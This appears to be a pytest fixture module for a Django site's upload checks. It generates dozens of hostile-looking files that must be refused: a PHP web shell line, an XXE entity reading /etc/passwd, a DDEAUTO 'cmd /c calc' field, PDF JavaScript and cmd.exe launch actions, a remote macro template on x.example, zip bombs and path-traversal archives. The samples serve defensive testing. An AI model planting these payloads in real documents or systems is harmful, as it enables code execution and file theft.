"""Files nobody should be able to upload: more than sixty kinds, made here, none of them harmful. Every file field is tried with all of them.

@pytest.mark.parametrize("bad", BAD, ids=str)
def test_refused(bad): post bad.upload() and expect a Chinese sentence, no row, no file
"""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image


@dataclass(frozen=True)
class Bad:
    name: str
    make: Callable[[], bytes]
    code: str = ""
    mime: str = "image/jpeg"

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.name, self.make(), content_type=self.mime)

    def __str__(self) -> str:
        return self.name[:40]


# --- good ones, and parts of the bad ones ------------------------------------------------------------------------------------------


@functools.cache
def jpeg(width: int = 640, height: int = 480, **options) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 50).convert("RGB").save(out, "JPEG", **options)
    return out.getvalue()


@functools.cache
def png(mode: str = "RGB", width: int = 320, height: int = 240) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 50).convert(mode).save(out, "PNG")
    return out.getvalue()


@functools.cache
def heic() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.effect_noise((400, 300), 50).convert("RGB").save(out, "HEIF")
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Phone"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (30.0, 46.0, 5.0), "E", (105.0, 42.0, 3.0)
    out = io.BytesIO()
    Image.effect_noise((600, 400), 50).convert("RGB").save(out, "JPEG", exif=exif)
    return out.getvalue()


@functools.cache
def word() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("会议记录")
    document.save(out)
    return out.getvalue()


@functools.cache
def excel() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "台账"
    book.save(out)
    return out.getvalue()


def ofd() -> bytes:
    return zipped(
        {"OFD.xml": b'<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>', "Doc_0/Document.xml": b"<a/>"}
    )


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def changed(source: bytes, put: dict[str, bytes], replace: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """An Office file with parts added or words in parts replaced."""
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, (old, new) in (replace or {}).items():
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)
    return zipped(parts | put)


def pdf(catalog: str = "", page: str = "", head: bytes = b"", tail: bytes = b"", trailer: str = "", more: tuple[str, ...] = ()) -> bytes:
    """A one-page PDF with additions to its catalog, page and trailer."""
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page} >>",
        *more,
    ]
    out = b"%PDF-1.7\n" + head
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode() + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + f"trailer << /Size {len(bodies) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode() + tail


def locked_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt("geheim", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hidden_script_pdf() -> bytes:
    """The script lies in a compressed object stream."""
    inner = b"4 0 << /S /JavaScript /JS (app.alert) >>"
    packed = zlib.compress(inner)
    stream = f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode() + packed + b"\nendstream"
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(
        (
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ),
        1,
    ):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets.append(len(out))
    out += b"5 0 obj\n" + stream + b"\nendobj\n"
    start = len(out)
    rows = [struct.pack(">BHB", 0, 0, 255)] + [struct.pack(">BHB", 1, offset, 0) for offset in offsets[:3]]
    rows += [struct.pack(">BHB", 2, 5, 0), struct.pack(">BHB", 1, offsets[3], 0), struct.pack(">BHB", 1, start, 0)]
    table = zlib.compress(b"".join(rows))
    out += f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length {len(table)} >>\nstream\n".encode()
    return out + table + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


@functools.cache
def huge_png() -> bytes:
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    return out.getvalue()


def jpeg_with_comment(words: bytes) -> bytes:
    data = jpeg(64, 64)
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + data[2:]


def locked_zip(source: bytes) -> bytes:
    """An archive that says its parts are encrypted."""
    data = bytearray(source)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            data[start + at] |= 1
            start += 4
    return bytes(data)


def lying_zip() -> bytes:
    """The directory says 10 bytes, the part unpacks to more."""
    data = bytearray(changed(word(), {"word/media/x.xml": b"<a>" + b" " * 4000 + b"</a>"}))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
MACRO_TYPE = (b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
RELATION = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ" + b"\0" * 200

BAD = [
    # kinds that are not on the list
    Bad("图.svg", lambda: SVG, "extension"),
    Bad("页.html", lambda: SCRIPT, "extension"),
    Bad("页.htm", lambda: SCRIPT, "extension"),
    Bad("程序.exe", lambda: EXE, "extension"),
    Bad("脚本.js", lambda: b"alert(1)", "extension"),
    Bad("后门.php", lambda: PHP, "extension"),
    Bad("批处理.bat", lambda: b"del *", "extension"),
    Bad("脚本.sh", lambda: b"#!/bin/sh", "extension"),
    Bad("脚本.py", lambda: b"print()", "extension"),
    Bad("动图.gif", gif, "extension"),
    Bad("旧表.xls", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "extension"),
    Bad("宏表.xlsm", excel, "extension"),
    Bad("宏文.docm", word, "extension"),
    Bad("压缩.zip", lambda: zipped({"a.txt": b"a"}), "extension"),
    Bad("列表.csv", lambda: b"a,b", "extension"),
    Bad("数据.xml", lambda: EXTERNAL, "extension"),
    Bad("影像.tiff", lambda: b"II*\0" + b"\0" * 50, "extension"),
    Bad("没有扩展名", lambda: jpeg(), "extension"),
    # several suffixes, hidden ends
    Bad("照片.jpg.exe", lambda: EXE, "extension"),
    Bad("照片.jpg.html", lambda: SCRIPT, "extension"),
    Bad("照片.php.jpg", lambda: jpeg(), "double_suffix"),
    Bad("照片.html.png", lambda: png(), "double_suffix"),
    Bad("照片.PHP5.jpeg", lambda: jpeg(), "double_suffix"),
    Bad("文档.exe.pdf", pdf, "double_suffix"),
    Bad("文档.js.docx", word, "double_suffix"),
    # the content is something else
    Bad("其实是网页.jpg", lambda: SCRIPT, "content"),
    Bad("其实是程序.jpg", lambda: EXE, "content"),
    Bad("其实是矢量.png", lambda: SVG, "content"),
    Bad("其实是PHP.pdf", lambda: PHP, "content"),
    Bad("其实是PNG.jpg", lambda: png(), "content"),
    Bad("其实是JPG.png", lambda: jpeg(), "content"),
    Bad("其实是JPG.heic", lambda: jpeg(), "content"),
    Bad("其实是GIF.jpg", lambda: gif() + b"/*" + SCRIPT, "content"),
    Bad("其实是PDF.docx", pdf, "content"),
    Bad("其实是Word.xlsx", word, "content"),
    Bad("其实是Excel.docx", excel, "content"),
    Bad("其实是压缩包.docx", lambda: zipped({"a.txt": b"a"}), "content"),
    Bad("其实是压缩包.ofd", lambda: zipped({"a.txt": b"a"}), "content"),
    Bad("带密码的旧式文档.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    Bad("只有头.jpg", lambda: b"\xff\xd8\xff\xe0", "damaged"),
    Bad("只有头.pdf", lambda: b"%PDF-1.4\n", "damaged"),
    # empty and torn
    Bad("空.jpg", lambda: b"", "empty"),
    Bad("空.pdf", lambda: b"", "empty"),
    Bad("半张.jpg", lambda: jpeg()[: len(jpeg()) // 2], "damaged"),
    Bad("半张.png", lambda: png()[: len(png()) // 2], "damaged"),
    Bad("半张.heic", lambda: heic()[: len(heic()) // 2], "damaged"),
    Bad("半份.pdf", lambda: pdf()[:-80], "damaged"),
    Bad("半份.docx", lambda: word()[: len(word()) // 2], "damaged"),
    Bad("半份.xlsx", lambda: excel()[:-30], "damaged"),
    # two files in one
    Bad("夹带压缩包.jpg", lambda: jpeg() + zipped({"a.php": PHP}), "polyglot"),
    Bad("夹带压缩包.png", lambda: png() + zipped({"a.php": PHP}), "polyglot"),
    Bad("注释里有PHP.jpg", lambda: jpeg_with_comment(PHP), "polyglot"),
    Bad("注释里有脚本.jpg", lambda: jpeg_with_comment(SCRIPT), "polyglot"),
    Bad("尾巴是网页.jpg", lambda: jpeg() + b"<html>" + SCRIPT, "polyglot"),
    Bad("尾巴是PHP.png", lambda: png() + PHP, "polyglot"),
    Bad("文本块有脚本.png", lambda: png()[:33] + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + png()[33:], "polyglot"),
    Bad("前面是网页.pdf", lambda: b"<html>" + pdf(), "content"),
    Bad("里面是网页.pdf", lambda: pdf(head=b"<html>" + SCRIPT + b"\n"), "polyglot"),
    Bad("后面是压缩包.pdf", lambda: pdf(tail=zipped({"a.exe": EXE})), "polyglot"),
    Bad("后面是网页.pdf", lambda: pdf(tail=b"<html>x</html>"), "polyglot"),
    Bad("前面有图.docx", lambda: b"PK\x03\x04" + b"\0" * 40 + word(), "polyglot"),
    Bad("后面有尾巴.docx", lambda: word() + SCRIPT, "polyglot"),
    # PDF that acts
    Bad("脚本.pdf", lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert) >>"), "javascript"),
    Bad("改写的脚本.pdf", lambda: pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>"), "javascript"),
    Bad("藏起来的脚本.pdf", hidden_script_pdf, "javascript"),
    Bad("脚本链接.pdf", lambda: pdf(page="/Annots [<< /A << /S /URI /URI (javascript:alert) >> >>]"), "javascript"),
    Bad("打开程序.pdf", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
    Bad("提交表单.pdf", lambda: pdf("/AA << /WC << /S /SubmitForm /F (http://x) >> >>"), "launch"),
    Bad("动态表单.pdf", lambda: pdf("/AcroForm << /XFA (x) >>"), "launch"),
    Bad("内嵌文件.pdf", lambda: pdf("/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 1 0 R >> >>] >> >>"), "embedded"),
    Bad("带密码.pdf", locked_pdf, "encrypted"),
    # Office files that act, or explode
    Bad("带宏.docx", lambda: changed(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    Bad("带宏.xlsx", lambda: changed(excel(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    Bad("改名的宏文档.docx", lambda: changed(word(), {}, {"[Content_Types].xml": MACRO_TYPE}), "macro"),
    Bad("嵌入对象.docx", lambda: changed(word(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    Bad("夹带程序.docx", lambda: changed(word(), {"word/media/a.exe": EXE}), "program"),
    Bad("改名的程序.docx", lambda: changed(word(), {"word/media/a.png": EXE}), "program"),
    Bad("远程模板.docx", lambda: changed(word(), {"word/_rels/settings.xml.rels": RELATION}), "external"),
    Bad("自动命令.docx", lambda: changed(word(), {"word/footer9.xml": b'<a><instrText>DDEAUTO "cmd" "/c calc"</instrText></a>'}), "dde"),
    Bad("实体.docx", lambda: changed(word(), {"word/comments.xml": ENTITIES}), "entities"),
    Bad("外部实体.xlsx", lambda: changed(excel(), {"xl/comments1.xml": EXTERNAL}), "entities"),
    Bad("外部实体.ofd", lambda: zipped({"OFD.xml": EXTERNAL}), "entities"),
    Bad("炸弹.xlsx", lambda: changed(excel(), {"xl/worksheets/sheet2.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}), "bomb"),
    Bad("许多条目.docx", lambda: changed(word(), {f"word/media/{n}.txt": b"" for n in range(2100)}), "bomb"),
    Bad("谎报大小.docx", lying_zip, "damaged"),
    Bad("加密.docx", lambda: locked_zip(word()), "encrypted"),
    Bad("越界路径.docx", lambda: changed(word(), {"../../x.xml": b"<a/>"}), "path"),
    Bad("夹带网页.ofd", lambda: changed(ofd(), {"Doc_0/x.html": SCRIPT}), "program"),
    # pictures that explode
    Bad("四亿像素.png", huge_png, "pixels"),
    Bad("假称巨大.png", lambda: png_claiming(60_000, 60_000), "pixels"),
    Bad("像素缺失.png", lambda: png_claiming(900, 900), "damaged"),
]

# Formats a photo field refuses though an evidence field takes them.
NOT_PHOTOS = [
    Bad("方案.pdf", pdf, "extension", "application/pdf"),
    Bad("记录.docx", word, "extension", "application/octet-stream"),
    Bad("台账.xlsx", excel, "extension", "application/octet-stream"),
    Bad("发票.ofd", ofd, "extension", "application/octet-stream"),
]
GOOD = {
    "照片.jpg": jpeg,
    "照片.JPEG": jpeg,
    "截图.png": png,
    "透明.png": lambda: png("RGBA"),
    "苹果手机.heic": heic,
    "扫描.pdf": pdf,
    "记录.docx": word,
    "台账.xlsx": excel,
    "发票.ofd": ofd,
    "2022.11.30 活动.jpg": jpeg,
}


def assert_refused_everywhere(bad: Bad, media, rows: Callable[[], int], post: Callable[[SimpleUploadedFile], object]) -> object:
    """Post `bad` with `post`; afterwards there are as many rows and files as before and the answer says why in Chinese. Returns the answer."""
    before = rows(), sorted(path for path in media.rglob("*") if path.is_file())
    answer = post(bad.upload())
    assert (rows(), sorted(path for path in media.rglob("*") if path.is_file())) == before
    assert answer.status_code < 500
    text = answer.content.decode(errors="replace")
    if answer.headers.get("Content-Type", "").startswith("application/json"):
        text = answer.json().get("reason", "")
    assert any("\u4e00" <= char <= "\u9fff" for char in text)
    return answer
